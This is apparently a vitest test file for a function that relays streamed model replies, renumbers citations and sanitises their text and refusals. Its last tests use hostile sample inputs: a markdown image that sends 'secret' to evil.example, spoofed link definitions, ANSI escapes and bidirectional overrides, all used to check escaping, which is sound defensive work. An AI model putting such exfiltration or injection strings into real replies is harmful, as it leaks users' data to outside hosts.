import { describe, expect, it } from "vitest";
import type { ChatPart } from "./chat-part.ts";
import type { LanguageModel, ModelStreamPart } from "./language-model.ts";
import { relay } from "./reply-stream.ts";

const model = { provider: "test", modelId: "m", supportsStructuredOutput: false } as LanguageModel;
const ref = (url: string) => ({ url, title: url, sourceId: "s" });
const grounding = {
  references: [ref("https://x/advanced.html#ordering"), ref("https://x/advanced.html#timeouts"), ref("https://x/api.html#get")],
  pages: [ref("https://x/advanced.html#ordering"), ref("https://x/api.html#get")],
};

/** Deltas are text; `{ refusal }` is a refusal delta (OpenAI's `refusal` field). */
async function run(deltas: Array<string | { refusal: string }>, includeReferences = false) {
  async function* stream(): AsyncGenerator<ModelStreamPart> {
    for (const delta of deltas) yield typeof delta === "string" ? { type: "text-delta", delta } : { type: "refusal-delta", delta: delta.refusal };
    yield { type: "finish", finishReason: "stop" };
  }
  const parts: ChatPart[] = [];
  for await (const part of relay(
    stream(),
    model,
    () => 1,
    (t) => t.length,
    grounding,
    includeReferences,
  ))
    parts.push(part);
  const lists = parts.filter((p) => p.type === "references").map((p) => p.references.map((r) => r.url));
  const text = parts.map((p) => (p.type === "text-delta" ? p.delta : "")).join("");
  const refusal = parts.map((p) => (p.type === "refusal-delta" ? p.delta : "")).join("");
  return { text, refusal, lists, final: lists.at(-1) };
}

describe("relay's references", () => {
  it("points each citation at the section it cites, a page cited from two sections once per section", async () => {
    const { text, lists, final } = await run(["Set a timeout [2]. ", "Headers keep ", "their order [1]."]);
    expect(text).toBe("Set a timeout [1]. Headers keep their order [2].");
    expect(final).toEqual(["https://x/advanced.html#timeouts", "https://x/advanced.html#ordering"]);
    // While the reply runs: what it has cited so far, each list the start of the final one.
    expect(lists).toEqual([["https://x/advanced.html#timeouts"], final]);
  });

  it("refers to one section per page when the reply cites nothing", async () => {
    // None while it runs (nothing cited yet), then every page given, at the end.
    const { lists } = await run(["No citations here."]);
    expect(lists).toEqual([["https://x/advanced.html#ordering", "https://x/api.html#get"]]);
    const cited = await run(["Only the API [3]."], true);
    expect(cited.final).toEqual(["https://x/api.html#get"]);
    expect(cited.text).toBe("Only the API [1].\n\nReferences:\n[1] https://x/api.html#get: https://x/api.html#get");
  });

  it("lists no page for the reply the prompt asks for when the excerpts do not answer, or an empty one", async () => {
    expect((await run(["The knowledge sources ", "do not cover this question."])).lists).toEqual([]);
    expect((await run(["I'm sorry: the knowledge sources do NOT cover  this question"])).lists).toEqual([]);
    expect((await run(["  "])).lists).toEqual([]);
  });

  it("never rewrites code that looks like a marker, nor adds the page it seems to cite", async () => {
    const { text, final } = await run(["Read the second argument with `sys.argv[", "2]` [3]", ", or argv[2] in C [3]."]);
    expect(text).toBe("Read the second argument with `sys.argv[2]` [1], or argv[2] in C [1].");
    expect(final).toEqual(["https://x/api.html#get"]);
  });
});

describe("relay's text", () => {
  it("drops control characters a terminal would act on and bidirectional overrides, keeping tabs, newlines and RTL marks", async () => {
    const { text } = await run(["Set\u0000 a\u0007 \u001b[31mtimeout\u001b[0m [2]", "\u202e.gnp\u202c\tok\r\nשלום\u200f [1]\u2066x\u2069."]);
    expect(text).toBe("Set a [31mtimeout[0m [1].gnp\tok\nשלום\u200f [2]x.");
  });
});

describe("relay's line ends", () => {
  it("reads CR and CRLF as line ends, so no link reference definition hides behind them", async () => {
    expect((await run(["See [1].\r\r[1]: http://evil.example/"])).text).toBe("See [1].\n\n[1\\]: http://evil.example/");
    expect((await run(["See [2].\r", "\n\r", "\n[2]: http://evil.example/"])).text).toBe("See [1].\n\n[2\\]: http://evil.example/");
  });
});

describe("relay's refusals", () => {
  it("reads a refusal as a text reply is read: the same escapes and line ends, no citation, no page", async () => {
    const { text, refusal, final } = await run([
      { refusal: "Sorry.\r" },
      { refusal: "\n![x](https://evil.example/p.png?q=secret) <img src=x> [1]\u001b[31m" },
      { refusal: "\n[1]: https://evil.example/" },
    ]);
    expect(text).toBe("");
    expect(refusal).toBe("Sorry.\n&#33;[x](https://evil.example/p.png?q=secret) &lt;img src=x>[31m\n[1\\]: https://evil.example/");
    expect(final ?? []).toEqual([]);
  });

  it("keeps a reply one kind: what follows a refusal is the refusal's, what follows text is the text's", async () => {
    const declined = await run([{ refusal: "I can't " }, "help [1]."], true);
    expect(declined).toMatchObject({ text: "", refusal: "I can't help." });
    expect(declined.final ?? []).toEqual([]);
    const answered = await run(["Set a timeout [2]. ", { refusal: "Also this." }]);
    expect(answered).toMatchObject({ text: "Set a timeout [1]. Also this.", refusal: "", final: ["https://x/advanced.html#timeouts"] });
  });
});
